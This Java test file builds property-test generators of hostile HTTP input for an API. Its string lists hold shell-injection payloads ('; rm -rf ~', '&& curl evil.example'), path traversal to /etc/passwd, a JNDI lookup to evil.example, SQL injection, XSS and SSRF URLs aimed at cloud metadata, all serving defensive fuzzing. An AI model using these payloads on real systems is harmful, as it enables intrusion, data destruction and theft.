package dev.styxy.http;

import dev.styxy.http.api.AllocateRequest;
import dev.styxy.http.api.RegisterInstanceRequest;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.regex.Matcher;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import org.apache.pekko.http.javadsl.model.ContentType;
import org.apache.pekko.http.javadsl.model.HttpEntities;
import org.apache.pekko.http.javadsl.model.HttpHeader;
import org.apache.pekko.http.javadsl.model.HttpMethod;
import org.apache.pekko.http.javadsl.model.HttpMethods;
import org.apache.pekko.http.javadsl.model.HttpRequest;
import org.apache.pekko.http.javadsl.model.headers.RawHeader;
import org.apache.pekko.stream.javadsl.Source;
import org.apache.pekko.util.ByteString;

/**
 * Generators of hostile input for the property tests of the API: strings with control and
 * unicode characters, path traversal and shell metacharacters, numbers of every wrong kind and
 * size, JSON of arbitrary shape (deeply nested, duplicate keys, wrong types), bodies over the
 * size limit, and URLs that try to leave loopback.
 */
final class HostileInput {
  private HostileInput() {}

  /** Strings chosen to break naive validation, logging and shell use. */
  static final List<String> NASTY = List.of("", " ", "../../etc/passwd", "/etc/shadow",
      "..\\..\\windows\\system32", "; rm -rf ~", "$(touch /tmp/styxy-pwned)", "`id`",
      "| cat /etc/passwd", "&& curl evil.example", "a\nb", "line\r\nX-Injected: 1", "\u0000",
      "nul\u0000byte", "%00", "%2e%2e%2f", "\u202eevil", "\uD83D\uDCA5", "\uFEFF", "null", "true",
      "-1", "0", "65536", "99999999999999999999", "1e309", "NaN", "{}", "[]", "' OR 1=1 --",
      "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "%s%s%s%n", "\\", "\"",
      "web", "ai", "tiny", "x".repeat(101), "y".repeat(1001));

  /** Numbers (as JSON text) of every troublesome kind. */
  static final List<String> NUMBERS = List.of("0", "-1", "1", "65535", "65536", "-65536", "1.5",
      "-0", "1e309", "-1e309", "1e2", "2147483648", "-2147483649", "9223372036854775808",
      "123456789012345678901234567890", "4194304", "4194305", "0.0000001", "1E-400");

  /** health_url values that try to reach another machine or sneak past the loopback rule. */
  static final List<String> URLS = List.of("http://127.0.0.1:3000/health", "http://localhost/",
      "http://[::1]:8080/", "http://2130706433/", "http://0x7f.0.0.1/", "http://0177.0.0.1/",
      "http://127.1/", "http://localhost.evil.example/", "http://127.0.0.1@evil.example/",
      "http://evil.example@127.0.0.1/", "http://[::ffff:127.0.0.1]/", "http://[::ffff:10.0.0.1]/",
      "http://[fe80::1%25eth0]/", "http://10.0.0.1/",
      "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "gopher://127.0.0.1:25/",
      "http://127.0.0.1:0/", "http://127.0.0.1:99999/", "http://localhost./",
      "http://127.0.0.1#@evil.example/", "javascript:alert(1)", "//evil.example/",
      "http://127.0.0.1:3000/\r\nHost: evil.example");

  static Arbitrary<String> strings() {
    return Arbitraries.frequencyOf(
        Tuple.of(3, Arbitraries.of(NASTY)),
        Tuple.of(2, Arbitraries.strings().all().ofMaxLength(40)),
        Tuple.of(1, Arbitraries.strings().withCharRange(' ', '~').ofMinLength(90)
            .ofMaxLength(1100)));
  }

  /** A string that can travel in a header: no control characters. */
  static Arbitrary<String> headerText() {
    return strings().map(s -> s.replaceAll("\\p{Cntrl}", "")).filter(s -> s.length() < 4000);
  }

  /** A path segment or query value, percent-encoded so the URI itself stays valid. */
  static Arbitrary<String> segments() {
    return Arbitraries.frequencyOf(
        Tuple.of(4, strings().map(s -> URLEncoder.encode(s, StandardCharsets.UTF_8))),
        Tuple.of(2, Arbitraries.of(NUMBERS)),
        Tuple.of(1, uuids()),
        Tuple.of(1, Arbitraries.of("%2e%2e", "..", ".", "%2F", "%00", "%252e", "a%20b")));
  }

  /** Version-4-shaped UUIDs drawn from the seed (lock ids that look right but are unknown). */
  static Arbitrary<String> uuids() {
    return Combinators.combine(Arbitraries.longs(), Arbitraries.longs()).as((hi, lo) ->
        new UUID(hi & ~0xF000L | 0x4000L, lo & 0x3FFFFFFFFFFFFFFFL | Long.MIN_VALUE).toString());
  }

  /** A JSON string literal of {@code text}. */
  static String quote(String text) {
    return ApiJson.write(text);
  }

  static Arbitrary<String> jsonLeaf() {
    return Arbitraries.frequencyOf(
        Tuple.of(3, strings().map(HostileInput::quote)),
        Tuple.of(3, Arbitraries.of(NUMBERS)),
        Tuple.of(1, Arbitraries.of("true", "false", "null")));
  }

  /** Any JSON value up to {@code depth} levels of arrays and objects. */
  static Arbitrary<String> json(int depth) {
    if (depth == 0) {
      return jsonLeaf();
    }
    Arbitrary<String> inner = json(depth - 1);
    Arbitrary<String> field = Combinators.combine(keys(AllocateRequest.FIELDS), inner)
        .as((k, v) -> quote(k) + ":" + v);
    return Arbitraries.frequencyOf(
        Tuple.of(4, jsonLeaf()),
        Tuple.of(1, inner.list().ofMaxSize(3).map(l -> "[" + String.join(",", l) + "]")),
        Tuple.of(1, field.list().ofMaxSize(3).map(l -> "{" + String.join(",", l) + "}")));
  }

  /** Mostly known field names, sometimes hostile ones. */
  static Arbitrary<String> keys(List<String> known) {
    return Arbitraries.frequencyOf(Tuple.of(6, Arbitraries.of(known)), Tuple.of(1, strings()));
  }

  /** A {@code POST /allocate} body: known fields with hostile or valid values, in any number. */
  static Arbitrary<String> allocateBodies() {
    Arbitrary<String> field = Arbitraries.oneOf(
        Arbitraries.of("web", "ai", "tiny").map(t -> "\"service_type\":" + quote(t)),
        strings().map(s -> "\"service_name\":" + quote(s)),
        strings().map(s -> "\"project_path\":" + quote(s)),
        strings().map(s -> "\"instance_id\":" + quote(s)),
        Arbitraries.of(URLS).map(u -> "\"health_url\":" + quote(u)),
        pids().map(p -> "\"pid\":" + p),
        Arbitraries.of(NUMBERS).map(n -> "\"preferred_port\":" + n),
        Arbitraries.of(NUMBERS).map(n -> "\"lease_ttl_s\":" + n),
        Combinators.combine(keys(AllocateRequest.FIELDS), json(2))
            .as((k, v) -> quote(k) + ":" + v));
    // A valid type with one hostile field: reaches the checks behind the type's.
    Arbitrary<String> oneBad = field.map(f -> "{\"service_type\":\"web\"," + f + "}");
    return Arbitraries.frequencyOf(Tuple.of(2, objects(field)), Tuple.of(1, oneBad));
  }

  /** A {@code POST /instance/register} body. */
  static Arbitrary<String> instanceBodies() {
    Arbitrary<String> field = Arbitraries.oneOf(
        strings().map(s -> "\"instance_id\":" + quote(s)),
        strings().map(s -> "\"working_directory\":" + quote(s)),
        json(2).map(v -> "\"metadata\":" + v),
        pids().map(p -> "\"pid\":" + p),
        Combinators.combine(keys(RegisterInstanceRequest.FIELDS), json(2))
            .as((k, v) -> quote(k) + ":" + v));
    Arbitrary<String> oneBad = field.map(f -> "{\"instance_id\":\"fuzz-1\"," + f + "}");
    return Arbitraries.frequencyOf(Tuple.of(2, objects(field)), Tuple.of(1, oneBad));
  }

  private static Arbitrary<String> objects(Arbitrary<String> field) {
    return field.list().ofMaxSize(6).map(l -> "{" + String.join(",", l) + "}");
  }

  /** Owner pids: this JVM (accepted), init, none, negative, huge, wrong types. */
  static Arbitrary<String> pids() {
    return Arbitraries.of(Long.toString(ProcessHandle.current().pid()), "1", "0", "-1",
        "4194305", "4194304", "999999999999", "\"123\"", "1.5", "null", "[]");
  }

  /** Any body: empty, JSON of any shape, broken JSON, deep nesting, oversized, raw bytes. */
  static Arbitrary<byte[]> bodies() {
    Arbitrary<String> text = Arbitraries.frequencyOf(
        Tuple.of(3, allocateBodies()),
        Tuple.of(2, instanceBodies()),
        Tuple.of(2, json(3)),
        Tuple.of(1, strings()),
        Tuple.of(1, Arbitraries.integers().between(100, 20_000).map(HostileInput::nested)),
        Tuple.of(1, Arbitraries.of("{\"service_type\":\"web\",\"service_type\":\"ai\"}",
            "{\"force\":true,\"force\":false}", "{\"path\":\"/etc/passwd\"}",
            "{\"path\":\"/proc/self/environ\"}", "{\"path\":\"../daemon.state\"}",
            "{\"service_type\":\"web\"} trailing", "{\"service_type\":\"web\"")),
        Tuple.of(1, Arbitraries.integers().between(10_241, 16_384)
            .map(n -> "{\"service_type\":\"web\",\"project_path\":\"" + "p".repeat(n) + "\"}")));
    return Arbitraries.frequencyOf(
        Tuple.of(1, Arbitraries.just(new byte[0])),
        Tuple.of(12, text.map(s -> s.getBytes(StandardCharsets.UTF_8))),
        Tuple.of(1, Arbitraries.bytes().array(byte[].class).ofMaxSize(300)));
  }

  /** {@code depth} nested arrays or objects, well past any parser's nesting limit. */
  static String nested(int depth) {
    boolean arrays = depth % 2 == 0;
    List<String> parts = new ArrayList<>();
    parts.add((arrays ? "[" : "{\"a\":").repeat(depth));
    parts.add("1");
    parts.add((arrays ? "]" : "}").repeat(depth));
    return String.join("", parts);
  }

  /**
   * Mostly a valid token and no browser headers, sometimes every kind of wrong one.
   *
   * @param clean how many times likelier a clean header is than each kind of wrong one
   */
  static Arbitrary<List<HttpHeader>> headers(int clean) {
    Arbitrary<List<HttpHeader>> auth = Arbitraries.frequencyOf(
        Tuple.of(clean, Arbitraries.just(List.of(header("Authorization", "Bearer "
            + ApiFixture.TOKEN)))),
        Tuple.of(1, Arbitraries.just(List.of())),
        Tuple.of(1, HostileInput.headerText().map(t -> List.of(header("Authorization", t)))),
        Tuple.of(1, HostileInput.headerText().map(t -> List.of(header("X-API-Key", t)))));
    Arbitrary<List<HttpHeader>> browser = Arbitraries.frequencyOf(
        Tuple.of(clean, Arbitraries.just(List.of())),
        Tuple.of(1, HostileInput.headerText().map(t -> List.of(header("Host", t)))),
        Tuple.of(1, HostileInput.headerText().map(t -> List.of(header("Origin", t)))),
        Tuple.of(1, Arbitraries.of("localhost:9876", "127.0.0.1", "[::1]:1", "evil.example",
            "localhost.evil.example:9876").map(h -> List.of(header("Host", h)))));
    Arbitrary<List<HttpHeader>> extra = Combinators.combine(Arbitraries.of("X-Request-Id",
        "X-Styxy-Client", "User-Agent", "X-Forwarded-For", "Cookie", "Accept"),
        HostileInput.headerText()).as((n, v) -> header(n, v)).list().ofMaxSize(2);
    return Combinators.combine(auth, browser, extra).as((a, b, e) -> {
      List<HttpHeader> all = new ArrayList<>(a);
      all.addAll(b);
      all.addAll(e);
      return all;
    });
  }

  static HttpHeader header(String name, String value) {
    return RawHeader.create(name, value);
  }

  static String fill(String template, List<String> segments) {
    String uri = template;
    for (String s : segments) {
      uri = uri.replaceFirst("\\{s}", Matcher.quoteReplacement(s));
    }
    return uri;
  }

  static HttpRequest request(HttpMethod method, String uri, List<HttpHeader> headers,
      byte[] body, ContentType type, boolean chunked) {
    HttpRequest request = HttpRequest.create(uri).withMethod(method).addHeaders(headers);
    if (method.equals(HttpMethods.HEAD)) {
      return request;  // the model refuses a HEAD request with a body
    }
    if (chunked) {
      return request.withEntity(
          HttpEntities.create(type, Source.single(ByteString.fromArray(body))));
    }
    return request.withEntity(HttpEntities.create(type, body));
  }
}
